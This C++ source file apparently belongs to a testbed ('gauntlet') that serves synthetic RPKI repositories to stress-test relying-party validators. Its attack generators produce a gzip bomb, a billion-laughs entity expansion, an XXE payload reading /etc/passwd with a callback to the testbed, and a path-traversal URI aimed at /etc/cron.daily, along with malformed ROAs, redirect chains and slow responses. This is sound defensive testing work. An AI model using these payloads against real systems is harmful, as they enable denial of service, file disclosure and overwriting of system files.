#include <zlib.h>

#include <algorithm>
#include <charconv>

#include "gauntlet/scenario.hpp"

namespace gauntlet {

// ---- node addresses ------------------------------------------------------------

NodeAddress NodeAddress::child(std::uint32_t i) const {
    NodeAddress c = *this;
    c.child_indices.push_back(i);
    return c;
}

NodeAddress NodeAddress::parent() const {
    NodeAddress p = *this;
    if (!p.child_indices.empty()) p.child_indices.pop_back();
    return p;
}

std::string NodeAddress::to_path() const {
    std::string out;
    for (std::size_t i = 0; i < child_indices.size(); ++i) {
        if (i) out += '.';
        out += std::to_string(child_indices[i]);
    }
    return out;
}

std::optional<NodeAddress> NodeAddress::parse(std::string_view path) {
    NodeAddress n;
    if (path.empty()) return n;
    std::size_t pos = 0;
    while (pos <= path.size()) {
        std::size_t dot = path.find('.', pos);
        if (dot == std::string_view::npos) dot = path.size();
        std::string_view part = path.substr(pos, dot - pos);
        if (part.empty() || (part.size() > 1 && part[0] == '0')) return std::nullopt;
        std::uint32_t v = 0;
        auto [p, ec] = std::from_chars(part.data(), part.data() + part.size(), v);
        if (ec != std::errc() || p != part.data() + part.size()) return std::nullopt;
        n.child_indices.push_back(v);
        pos = dot + 1;
    }
    return n;
}

bool NodeAddress::is_ancestor_of(const NodeAddress& other) const {
    return child_indices.size() < other.child_indices.size() &&
           std::equal(child_indices.begin(), child_indices.end(), other.child_indices.begin());
}

NodeAddress attack_node() { return NodeAddress{{0}}; }

std::string_view to_string(HttpBehavior::Kind k) {
    switch (k) {
        case HttpBehavior::Kind::Normal: return "NORMAL";
        case HttpBehavior::Kind::RateLimit: return "RATE_LIMIT";
        case HttpBehavior::Kind::RedirectChain: return "REDIRECT_CHAIN";
        case HttpBehavior::Kind::GzipBomb: return "GZIP_BOMB";
        case HttpBehavior::Kind::Trickle: return "TRICKLE";
        case HttpBehavior::Kind::Huge: return "HUGE";
    }
    return "";
}

GeneratedResource GeneratedResource::not_found() {
    GeneratedResource r;
    r.status = 404;
    r.media_type = "text/plain";
    r.body = Bytes{'n', 'o', 't', ' ', 'f', 'o', 'u', 'n', 'd', '\n'};
    return r;
}

PayloadStream::PayloadStream(const Seed& seed) {
    std::seed_seq seq(seed.begin(), seed.end());
    rng_.seed(seq);
}

void PayloadStream::fill(std::uint8_t* out, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) {
        if (available_ == 0) {
            buffer_ = rng_();
            available_ = 8;
        }
        out[i] = static_cast<std::uint8_t>(buffer_);
        buffer_ >>= 8;
        --available_;
    }
}

std::shared_ptr<const Bytes> gzip_zero_bomb(std::uint64_t decompressed_len) {
    static std::mutex mu;
    static std::map<std::uint64_t, std::shared_ptr<const Bytes>> cache;
    std::lock_guard lock(mu);
    if (auto it = cache.find(decompressed_len); it != cache.end()) return it->second;

    z_stream zs{};
    if (deflateInit2(&zs, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY) != Z_OK)
        throw std::runtime_error("deflateInit2 failed");
    auto out = std::make_shared<Bytes>();
    const Bytes zeros(1 << 20, 0);
    Bytes buf(1 << 16);
    std::uint64_t remaining = decompressed_len;
    int flush = Z_NO_FLUSH;
    do {
        std::size_t chunk = static_cast<std::size_t>(std::min<std::uint64_t>(remaining, zeros.size()));
        remaining -= chunk;
        flush = remaining == 0 ? Z_FINISH : Z_NO_FLUSH;
        zs.next_in = const_cast<Bytef*>(zeros.data());
        zs.avail_in = static_cast<uInt>(chunk);
        do {
            zs.next_out = buf.data();
            zs.avail_out = static_cast<uInt>(buf.size());
            deflate(&zs, flush);
            out->insert(out->end(), buf.data(), buf.data() + (buf.size() - zs.avail_out));
        } while (zs.avail_out == 0);
    } while (flush != Z_FINISH);
    deflateEnd(&zs);
    cache[decompressed_len] = out;
    return out;
}

// ---- RRDP ------------------------------------------------------------------------

namespace rrdp {

std::string session_id_for(std::string_view uuid, const NodeAddress& node) {
    std::string material = std::string(uuid) + "/" + node.to_path();
    auto d = sha256(as_bytes(material));
    std::array<std::uint8_t, 16> b{};
    std::copy(d.begin(), d.begin() + 16, b.begin());
    b[6] = static_cast<std::uint8_t>((b[6] & 0x0f) | 0x40);
    b[8] = static_cast<std::uint8_t>((b[8] & 0x3f) | 0x80);
    std::string h = hex(ByteView(b.data(), b.size()));
    return h.substr(0, 8) + "-" + h.substr(8, 4) + "-" + h.substr(12, 4) + "-" + h.substr(16, 4) + "-" + h.substr(20);
}

std::string xml_escape(std::string_view s) {
    std::string out;
    out.reserve(s.size());
    for (char c : s) {
        switch (c) {
            case '&': out += "&amp;"; break;
            case '<': out += "&lt;"; break;
            case '>': out += "&gt;"; break;
            case '"': out += "&quot;"; break;
            default: out += c;
        }
    }
    return out;
}

Bytes notification_xml(std::string_view session_id, std::uint64_t serial, std::string_view snapshot_uri,
                       const Sha256Digest& snapshot_hash) {
    std::string x = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    x += "<notification xmlns=\"" + std::string(kNamespace) + "\" version=\"1\" session_id=\"" +
         std::string(session_id) + "\" serial=\"" + std::to_string(serial) + "\">\n";
    x += "  <snapshot uri=\"" + xml_escape(snapshot_uri) + "\" hash=\"" + hex(snapshot_hash) + "\"/>\n";
    x += "</notification>\n";
    return Bytes(x.begin(), x.end());
}

Bytes snapshot_xml(std::string_view session_id, std::uint64_t serial, const std::vector<RepoFile>& files) {
    std::string x = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    x += "<snapshot xmlns=\"" + std::string(kNamespace) + "\" version=\"1\" session_id=\"" +
         std::string(session_id) + "\" serial=\"" + std::to_string(serial) + "\">\n";
    for (const auto& f : files) {
        x += "  <publish uri=\"" + xml_escape(f.uri) + "\">";
        x += base64_encode(f.body);
        x += "</publish>\n";
    }
    x += "</snapshot>\n";
    return Bytes(x.begin(), x.end());
}

}  // namespace rrdp

IpPrefix k_prefix(std::uint64_t index) {
    unsigned level = 0;
    while (level < 63 && (std::uint64_t{1} << (level + 1)) - 1 <= index) ++level;
    std::uint64_t pos = index + 1 - (std::uint64_t{1} << level);
    IpPrefix p = IpPrefix::parse("2001:db8::/48");
    p.length = static_cast<std::uint8_t>(48 + level);
    for (unsigned b = 0; b < level; ++b) {
        if ((pos >> (level - 1 - b)) & 1) {
            unsigned bit = 48 + b;
            p.addr[bit / 8] |= static_cast<std::uint8_t>(0x80 >> (bit % 8));
        }
    }
    return p;
}

// ---- tree shape -----------------------------------------------------------------

namespace {

constexpr std::uint32_t kBaselineAsn = 64500;
constexpr std::uint32_t kAttackerAsn = 64496;
constexpr std::uint32_t kJBaseAsn = 4200000000u;

ResourceSet attacker_resources() {
    return ResourceSet::of({"10.0.0.0/8", "2001:db8::/32"}, {AsRange{64496, 65551}});
}

std::uint64_t page_count(const TestParams& p) { return (p.roa_count + p.page_size - 1) / p.page_size; }

struct RoaSpec {
    std::string name;
    Bytes econtent;
    bool attack = false;
};

Bytes roa_econtent(std::uint32_t asn, const IpPrefix& prefix, std::optional<unsigned> max_len) {
    return encode_roa(build_roa(asn, {RoaBlock::of(prefix, max_len)}));
}

std::string file_for_child(std::uint32_t i) { return "child-" + std::to_string(i) + ".cer"; }

struct NodeContext {
    KeyPair key;
    CaCertificate cert;
    std::string repo;
    std::string cert_uri;
    std::string crl_uri;
    std::string manifest_uri;
    std::string notify;
    std::string snapshot;

    SignerContext signer() const { return {key, cert, cert_uri, crl_uri}; }
};

KeyPair ca_key(const TestInstance& inst, const NodeAddress& node) {
    return KeyCache::global().get(seed_for(inst.uuid, "ca/" + node.to_path()), inst.params.key_strength());
}

KeyPair ee_key(const TestInstance& inst, const NodeAddress& node) {
    return KeyCache::global().get(seed_for(inst.uuid, "ee/" + node.to_path()), inst.params.key_strength());
}

std::string repo_uri(const TestInstance& inst, const NodeAddress& node) {
    return inst.rsync_module() + (node.is_root() ? std::string("root/") : "node/" + node.to_path() + "/");
}

std::string rrdp_base(const TestInstance& inst, const NodeAddress& node) {
    return inst.https_origin() + (node.is_root() ? std::string("/") : "/node/" + node.to_path() + "/");
}

std::string cert_uri_of(const TestInstance& inst, const NodeAddress& node) {
    if (node.is_root()) return inst.rsync_module() + "ta/root.cer";
    return repo_uri(inst, node.parent()) + file_for_child(node.child_indices.back());
}

ResourceSet resources_of(const NodeAddress& node) {
    return node.is_root() ? ResourceSet::all() : attacker_resources();
}

NodeContext node_context(const TestInstance& inst, const NodeAddress& node) {
    NodeContext c;
    c.key = ca_key(inst, node);
    c.repo = repo_uri(inst, node);
    c.cert_uri = cert_uri_of(inst, node);
    c.crl_uri = c.repo + "revoked.crl";
    c.manifest_uri = c.repo + "manifest.mft";
    c.notify = rrdp_base(inst, node) + "notification.xml";
    c.snapshot = rrdp_base(inst, node) + "snapshot.xml";

    CertUris uris;
    uris.ca_repository = c.repo;
    uris.manifest = c.manifest_uri;
    uris.rrdp_notify = c.notify;
    const Validity validity = default_validity(inst.created_at);
    if (node.is_root()) {
        c.cert = build_ca_cert(c.key, c.key, resources_of(node), uris, validity);
    } else {
        const NodeAddress parent = node.parent();
        KeyPair parent_key = ca_key(inst, parent);
        uris.issuer_cert = cert_uri_of(inst, parent);
        uris.crl = repo_uri(inst, parent) + "revoked.crl";
        Bytes material = c.key.key_id();
        std::string path = node.to_path();
        material.insert(material.end(), path.begin(), path.end());
        c.cert = build_ca_cert(parent_key, c.key, resources_of(node), uris, validity, serial_for(material));
    }
    return c;
}

}  // namespace

std::optional<std::vector<std::uint32_t>> ScenarioEngine::children_of(const TestInstance& inst,
                                                                       const NodeAddress& node) const {
    const TestParams& p = inst.params;
    const auto& idx = node.child_indices;
    auto range = [](std::uint64_t n) {
        std::vector<std::uint32_t> v(static_cast<std::size_t>(n));
        for (std::size_t i = 0; i < v.size(); ++i) v[i] = static_cast<std::uint32_t>(i);
        return v;
    };
    switch (inst.test) {
        case TestId::A: {
            if (std::any_of(idx.begin(), idx.end(), [](std::uint32_t i) { return i != 0; })) return std::nullopt;
            if (p.depth && node.depth() > *p.depth) return std::nullopt;
            if (!p.depth || node.depth() < *p.depth) return std::vector<std::uint32_t>{0};
            return std::vector<std::uint32_t>{};
        }
        case TestId::H: {
            if (std::any_of(idx.begin(), idx.end(), [&](std::uint32_t i) { return i >= p.width; })) return std::nullopt;
            if (p.depth && node.depth() > *p.depth) return std::nullopt;
            if (!p.depth || node.depth() < *p.depth) return range(p.width);
            return std::vector<std::uint32_t>{};
        }
        case TestId::J:
        case TestId::K: {
            if (node.is_root()) return std::vector<std::uint32_t>{0};
            if (idx[0] != 0 || node.depth() > 2) return std::nullopt;
            if (node.depth() == 1) return range(page_count(p));
            if (idx[1] >= page_count(p)) return std::nullopt;
            return std::vector<std::uint32_t>{};
        }
        default: {
            if (node.is_root()) return std::vector<std::uint32_t>{0};
            if (node.depth() == 1 && idx[0] == 0) return std::vector<std::uint32_t>{};
            return std::nullopt;
        }
    }
}

namespace {

// ROAs published at `node`, excluding the J/K pages which are signed lazily.
std::vector<RoaSpec> roa_specs(const TestInstance& inst, const NodeAddress& node, bool leaf) {
    std::vector<RoaSpec> out;
    const TestParams& p = inst.params;
    if (node.is_root()) {
        out.push_back({"roa-0.roa", roa_econtent(kBaselineAsn, IpPrefix::parse("192.0.2.0/24"), 24)});
        return out;
    }
    switch (inst.test) {
        case TestId::A:
            if (leaf) out.push_back({"roa-0.roa", roa_econtent(kAttackerAsn, IpPrefix::parse("10.0.0.0/8"), 24)});
            break;
        case TestId::H:
            if (leaf) {
                std::uint64_t ordinal = 0;
                for (auto i : node.child_indices) ordinal = ordinal * p.width + i;
                IpPrefix pre = IpPrefix::parse("10.0.0.0/24");
                pre.addr[1] = static_cast<std::uint8_t>(ordinal >> 8);
                pre.addr[2] = static_cast<std::uint8_t>(ordinal);
                out.push_back({"roa-0.roa", roa_econtent(kAttackerAsn, pre, 24)});
            }
            break;
        case TestId::J:
        case TestId::K:
            break;
        default:
            if (node == attack_node()) {
                out.push_back({"roa-0.roa", roa_econtent(kAttackerAsn, IpPrefix::parse("10.0.0.0/8"), 24)});
                if (inst.test == TestId::F && !p.control) {
                    out.push_back({"roa-1.roa", Bytes{0x00}, true});
                } else if (inst.test == TestId::I && !p.control) {
                    RoaBlock too_long;
                    too_long.family = AddressFamily::Ipv4;
                    too_long.prefix_length = 33;
                    too_long.address_bits = {10, 1, 0, 0, 0x80};
                    out.push_back({"roa-1.roa", encode_roa(build_roa(kAttackerAsn, {too_long}, true)), true});
                    RoaBlock wide_max = RoaBlock::of(IpPrefix::parse("10.2.0.0/16"));
                    wide_max.max_length = 200;
                    out.push_back({"roa-2.roa", encode_roa(build_roa(kAttackerAsn, {wide_max}, true)), true});
                }
            }
            break;
    }
    return out;
}

Bytes page_roa(const TestInstance& inst, std::uint64_t index) {
    if (inst.test == TestId::J)
        return roa_econtent(static_cast<std::uint32_t>(kJBaseAsn + index), IpPrefix::parse("10.0.0.0/24"), 24);
    IpPrefix pre = k_prefix(index);
    return roa_econtent(kAttackerAsn, pre, pre.length);
}

std::vector<std::pair<std::string, SignedObjectBundle>> page_objects(const TestInstance& inst, std::uint64_t page) {
    if (inst.test != TestId::J && inst.test != TestId::K) throw std::invalid_argument("ROA pages exist for J and K");
    const TestParams& p = inst.params;
    if (page >= page_count(p)) throw NotFound("no such ROA page");
    const NodeAddress node = attack_node().child(static_cast<std::uint32_t>(page));
    NodeContext ctx = node_context(inst, node);
    SignOptions opts;
    opts.ee_key = ee_key(inst, node);
    opts.validity = default_validity(inst.created_at);
    const SignerContext signer = ctx.signer();
    std::vector<std::pair<std::string, SignedObjectBundle>> out;
    const std::uint64_t first = page * p.page_size;
    const std::uint64_t last = std::min(p.roa_count, first + p.page_size);
    out.reserve(static_cast<std::size_t>(last - first));
    for (std::uint64_t i = first; i < last; ++i) {
        std::string uri = ctx.repo + "roa-" + std::to_string(i - first) + ".roa";
        auto b = sign_object(oid::kRoa, page_roa(inst, i), signer, uri, opts);
        out.emplace_back(std::move(uri), std::move(b));
    }
    return out;
}

std::string xml_header() { return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"; }

}  // namespace

ScenarioEngine::ScenarioEngine(std::size_t cache_capacity) : capacity_(std::max<std::size_t>(cache_capacity, 1)) {}

std::shared_ptr<const PublicationPoint> ScenarioEngine::publication_point(const TestInstance& inst,
                                                                          const NodeAddress& node) {
    const std::string key = inst.uuid + (inst.params.control ? "|c|" : "|a|") + node.to_path();
    {
        std::lock_guard lock(mu_);
        if (auto it = index_.find(key); it != index_.end()) {
            lru_.splice(lru_.begin(), lru_, it->second);
            return it->second->second;
        }
    }
    auto pp = build(inst, node);
    std::lock_guard lock(mu_);
    if (auto it = index_.find(key); it != index_.end()) return it->second->second;
    lru_.emplace_front(key, pp);
    index_[key] = lru_.begin();
    while (lru_.size() > capacity_) {
        index_.erase(lru_.back().first);
        lru_.pop_back();
    }
    return pp;
}

std::shared_ptr<const PublicationPoint> ScenarioEngine::build(const TestInstance& inst, const NodeAddress& node) {
    auto children = children_of(inst, node);
    if (!children) throw NotFound("no such node " + node.to_path());

    NodeContext ctx = node_context(inst, node);
    auto pp = std::make_shared<PublicationPoint>();
    pp->node = node;
    pp->repo_uri = ctx.repo;
    pp->notification_uri = ctx.notify;
    pp->snapshot_uri = ctx.snapshot;
    pp->cert_uri = ctx.cert_uri;
    pp->cert = ctx.cert.der;
    pp->children = *children;

    const bool leaf = children->empty();
    const Validity validity = default_validity(inst.created_at);
    SignOptions opts;
    opts.ee_key = ee_key(inst, node);
    opts.validity = validity;
    const SignerContext signer = ctx.signer();

    for (std::uint32_t c : *children) {
        NodeContext child = node_context(inst, node.child(c));
        pp->files.push_back({file_for_child(c), ctx.repo + file_for_child(c), child.cert.der});
    }
    for (const auto& spec : roa_specs(inst, node, leaf)) {
        SignOptions o = opts;
        o.attack_mode = spec.attack;
        auto b = sign_object(oid::kRoa, spec.econtent, signer, ctx.repo + spec.name, o);
        pp->files.push_back({spec.name, ctx.repo + spec.name, std::move(b.der)});
    }
    if ((inst.test == TestId::J || inst.test == TestId::K) && node.depth() == 2) {
        for (auto& [uri, b] : page_objects(inst, node.child_indices[1])) {
            std::string name = uri.substr(uri.rfind('/') + 1);
            pp->files.push_back({name, uri, std::move(b.der)});
        }
    }
    if (node.is_root()) {
        const std::string vcard =
            "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Testbed Operator\r\nORG:Testbed\r\n"
            "EMAIL:noc@" + inst.base_domain + "\r\nEND:VCARD\r\n";
        auto b = sign_object(oid::kGhostbusters, as_bytes(vcard), signer, ctx.repo + "contact.gbr", opts);
        pp->files.push_back({"contact.gbr", ctx.repo + "contact.gbr", std::move(b.der)});
    }
    Bytes crl = build_crl(ctx.key, ctx.cert, {}, validity);
    pp->files.push_back({"revoked.crl", ctx.crl_uri, crl});

    std::vector<ManifestEntry> entries;
    entries.reserve(pp->files.size());
    for (const auto& f : pp->files) entries.push_back({f.name, sha256(f.body)});
    auto mft = build_manifest(entries, validity, signer, ctx.manifest_uri);
    pp->files.push_back({"manifest.mft", ctx.manifest_uri, std::move(mft.der)});

    const std::string session = rrdp::session_id_for(inst.uuid, node);
    pp->snapshot = rrdp::snapshot_xml(session, 1, pp->files);
    std::string snapshot_uri = ctx.snapshot;

    if (node == attack_node() && !inst.params.control) {
        switch (inst.test) {
            case TestId::G: pp->snapshot = gen_xml_attack(inst, TestId::G).body; break;
            case TestId::N: pp->snapshot = gen_path_attack(inst, TestId::N).body; break;
            case TestId::O: pp->snapshot = gen_path_attack(inst, TestId::O).body; break;
            case TestId::L: snapshot_uri = rrdp_base(inst, node) + "payload.bin"; break;
            default: break;
        }
    }
    pp->notification = rrdp::notification_xml(session, 1, snapshot_uri, sha256(pp->snapshot));
    if (node == attack_node() && !inst.params.control && inst.test == TestId::M)
        pp->notification = gen_xml_attack(inst, TestId::M).body;
    return pp;
}

std::shared_ptr<const PublicationPoint> ScenarioEngine::gen_chain(const TestInstance& inst, const NodeAddress& node) {
    if (inst.test != TestId::A && inst.test != TestId::H)
        throw std::invalid_argument("gen_chain applies to tests A and H");
    return publication_point(inst, node);
}

std::vector<SignedObjectBundle> ScenarioEngine::roa_page(const TestInstance& inst, std::uint64_t page) {
    std::vector<SignedObjectBundle> out;
    for (auto& [uri, b] : page_objects(inst, page)) out.push_back(std::move(b));
    return out;
}

std::vector<SignedObjectBundle> ScenarioEngine::gen_roa_attack(const TestInstance& inst, TestId kind) {
    if (inst.test != kind) throw std::invalid_argument("instance does not run the requested test");
    std::vector<SignedObjectBundle> out;
    if (kind == TestId::J || kind == TestId::K) {
        for (std::uint64_t page = 0; page < page_count(inst.params); ++page) {
            for (auto& b : roa_page(inst, page)) out.push_back(std::move(b));
        }
        return out;
    }
    if (kind != TestId::F && kind != TestId::I) throw std::invalid_argument("gen_roa_attack applies to F, I, J, K");
    NodeContext ctx = node_context(inst, attack_node());
    SignOptions opts;
    opts.ee_key = ee_key(inst, attack_node());
    opts.validity = default_validity(inst.created_at);
    TestInstance attacked = inst;
    attacked.params.control = false;
    for (const auto& spec : roa_specs(attacked, attack_node(), true)) {
        if (!spec.attack) continue;
        SignOptions o = opts;
        o.attack_mode = true;
        out.push_back(sign_object(oid::kRoa, spec.econtent, ctx.signer(), ctx.repo + spec.name, o));
    }
    return out;
}

GeneratedResource ScenarioEngine::gen_xml_attack(const TestInstance& inst, TestId kind) {
    if (inst.test != kind || (kind != TestId::G && kind != TestId::M))
        throw std::invalid_argument("gen_xml_attack applies to G and M");
    const NodeAddress node = attack_node();
    const std::string session = rrdp::session_id_for(inst.uuid, node);
    GeneratedResource r;
    r.media_type = "application/xml";
    std::string x = xml_header();
    if (kind == TestId::G) {
        x += "<!DOCTYPE snapshot [\n  <!ENTITY lol0 \"lol\">\n";
        for (unsigned level = 1; level <= inst.params.entity_levels; ++level) {
            x += "  <!ENTITY lol" + std::to_string(level) + " \"";
            for (int k = 0; k < 10; ++k) x += "&lol" + std::to_string(level - 1) + ";";
            x += "\">\n";
        }
        x += "]>\n";
        x += "<snapshot xmlns=\"" + std::string(rrdp::kNamespace) + "\" version=\"1\" session_id=\"" + session +
             "\" serial=\"1\">\n";
        x += "  <publish uri=\"" + repo_uri(inst, node) + "lol.roa\">&lol" +
             std::to_string(inst.params.entity_levels) + ";</publish>\n";
        x += "</snapshot>\n";
    } else {
        const std::string callback = inst.https_origin() + "/callback/xxe";
        x += "<!DOCTYPE notification [\n";
        x += "  <!ENTITY callback SYSTEM \"" + callback + "\">\n";
        x += "  <!ENTITY local SYSTEM \"file:///etc/passwd\">\n";
        x += "]>\n";
        x += "<notification xmlns=\"" + std::string(rrdp::kNamespace) + "\" version=\"1\" session_id=\"" + session +
             "\" serial=\"1\">\n";
        x += "  <snapshot uri=\"&callback;&local;\" hash=\"" + std::string(64, '0') + "\"/>\n";
        x += "</notification>\n";
    }
    r.body.assign(x.begin(), x.end());
    return r;
}

GeneratedResource ScenarioEngine::gen_path_attack(const TestInstance& inst, TestId kind) {
    if (inst.test != kind || (kind != TestId::N && kind != TestId::O))
        throw std::invalid_argument("gen_path_attack applies to N and O");
    // The benign content of the node, plus one hostile publish element.
    TestInstance benign = inst;
    benign.params.control = true;
    auto pp = publication_point(benign, attack_node());
    std::vector<RepoFile> files = pp->files;
    // Rewrite URIs from the benign twin's hostname back to this instance.
    for (auto& f : files) f.uri = repo_uri(inst, attack_node()) + f.name;
    RepoFile evil;
    evil.body = files.front().body;
    if (kind == TestId::N) {
        evil.name = std::string(static_cast<std::size_t>(inst.params.path_len), 'a') + ".roa";
        evil.uri = repo_uri(inst, attack_node()) + evil.name;
    } else {
        evil.name = "evil.roa";
        evil.uri = repo_uri(inst, attack_node()) + "../../../../etc/cron.daily/evil.roa";
    }
    files.push_back(std::move(evil));
    GeneratedResource r;
    r.media_type = "application/xml";
    r.body = rrdp::snapshot_xml(rrdp::session_id_for(inst.uuid, attack_node()), 1, files);
    return r;
}

HttpBehavior ScenarioEngine::http_behavior_for(const TestInstance& inst) const {
    HttpBehavior b;
    if (inst.params.control) return b;
    switch (inst.test) {
        case TestId::B:
            b.kind = HttpBehavior::Kind::RateLimit;
            b.retry_after = inst.params.retry_after;
            break;
        case TestId::C:
            b.kind = HttpBehavior::Kind::RedirectChain;
            break;
        case TestId::D:
            b.kind = HttpBehavior::Kind::GzipBomb;
            b.decompressed_len = inst.params.payload_size;
            break;
        case TestId::E:
            b.kind = HttpBehavior::Kind::Trickle;
            b.rate = inst.params.trickle_rate;
            break;
        case TestId::L:
            b.kind = HttpBehavior::Kind::Huge;
            b.total_len = inst.params.payload_size;
            break;
        default:
            break;
    }
    return b;
}

Bytes ScenarioEngine::root_certificate(const TestInstance& inst) { return node_context(inst, NodeAddress{}).cert.der; }

std::string TestInstance::tal_text() const {
    KeyPair root = ca_key(*this, NodeAddress{});
    return build_tal({https_origin() + "/ta/root.cer", rsync_module() + "ta/root.cer"}, root.public_key());
}

GeneratedResource ScenarioEngine::resolve(const TestInstance& inst, std::string_view path) {
    if (auto q = path.find('?'); q != std::string_view::npos) path = path.substr(0, q);
    if (path.find("/../") != std::string_view::npos || path.find("/./") != std::string_view::npos ||
        path.find("//") != std::string_view::npos)
        return GeneratedResource::not_found();

    const HttpBehavior attack = http_behavior_for(inst);
    const bool attacked_test = attack.kind != HttpBehavior::Kind::Normal;

    auto ok = [](Bytes body, std::string media) {
        GeneratedResource r;
        r.body = std::move(body);
        r.media_type = std::move(media);
        return r;
    };

    try {
        if (path == "/ta/root.cer") return ok(root_certificate(inst), "application/pkix-cert");
        if (path == "/ta/root.tal") {
            std::string t = inst.tal_text();
            return ok(Bytes(t.begin(), t.end()), "text/plain");
        }
        if (path.rfind("/callback/", 0) == 0) {
            GeneratedResource r = ok(Bytes{'o', 'k', '\n'}, "text/plain");
            r.callback = true;
            return r;
        }
        if (path.rfind("/redirect/", 0) == 0 && inst.test == TestId::C && attacked_test) {
            std::uint64_t hop = 0;
            std::string_view rest = path.substr(10);
            auto [p, ec] = std::from_chars(rest.data(), rest.data() + rest.size(), hop);
            if (ec != std::errc() || p != rest.data() + rest.size() || hop == 0) return GeneratedResource::not_found();
            if (inst.params.redirect_hops && hop >= *inst.params.redirect_hops) {
                GeneratedResource r = ok(publication_point(inst, attack_node())->notification, "application/xml");
                r.behavior.kind = HttpBehavior::Kind::RedirectChain;
                r.behavior.hop = hop;
                return r;
            }
            GeneratedResource r;
            r.status = 302;
            r.media_type = "text/plain";
            r.behavior.kind = HttpBehavior::Kind::RedirectChain;
            r.behavior.hop = hop;
            r.location = inst.https_origin() + "/redirect/" + std::to_string(hop + 1);
            return r;
        }

        NodeAddress node;
        std::string_view file;
        if (path == "/notification.xml" || path == "/snapshot.xml") {
            file = path.substr(1);
        } else if (path.rfind("/node/", 0) == 0) {
            std::string_view rest = path.substr(6);
            auto slash = rest.find('/');
            if (slash == std::string_view::npos) return GeneratedResource::not_found();
            auto parsed = NodeAddress::parse(rest.substr(0, slash));
            if (!parsed || parsed->is_root()) return GeneratedResource::not_found();
            node = *parsed;
            file = rest.substr(slash + 1);
        } else {
            return GeneratedResource::not_found();
        }
        if (!children_of(inst, node)) return GeneratedResource::not_found();

        const bool at_attack = node == attack_node() && attacked_test;
        if (file == "payload.bin") {
            if (!at_attack || inst.test != TestId::L) return GeneratedResource::not_found();
            GeneratedResource r;
            r.body.clear();
            r.behavior = attack;
            r.stream_seed = seed_for(inst.uuid, "payload");
            return r;
        }
        if (file == "notification.xml") {
            if (at_attack && inst.test == TestId::B) {
                GeneratedResource r = ok(Bytes{'s', 'l', 'o', 'w', ' ', 'd', 'o', 'w', 'n', '\n'}, "text/plain");
                r.status = 429;
                r.behavior = attack;
                return r;
            }
            if (at_attack && inst.test == TestId::C) {
                GeneratedResource r;
                r.status = 302;
                r.media_type = "text/plain";
                r.behavior = attack;
                r.behavior.hop = 0;
                r.location = inst.https_origin() + "/redirect/1";
                return r;
            }
            GeneratedResource r = ok(publication_point(inst, node)->notification, "application/xml");
            if (at_attack && inst.test == TestId::E) r.behavior = attack;
            return r;
        }
        if (file == "snapshot.xml") {
            if (at_attack && inst.test == TestId::D) {
                auto bomb = gzip_zero_bomb(inst.params.payload_size);
                GeneratedResource r = ok(*bomb, "application/xml");
                r.behavior = attack;
                r.behavior.compressed_len = bomb->size();
                return r;
            }
            return ok(publication_point(inst, node)->snapshot, "application/xml");
        }
        return GeneratedResource::not_found();
    } catch (const NotFound&) {
        return GeneratedResource::not_found();
    }
}

}  // namespace gauntlet
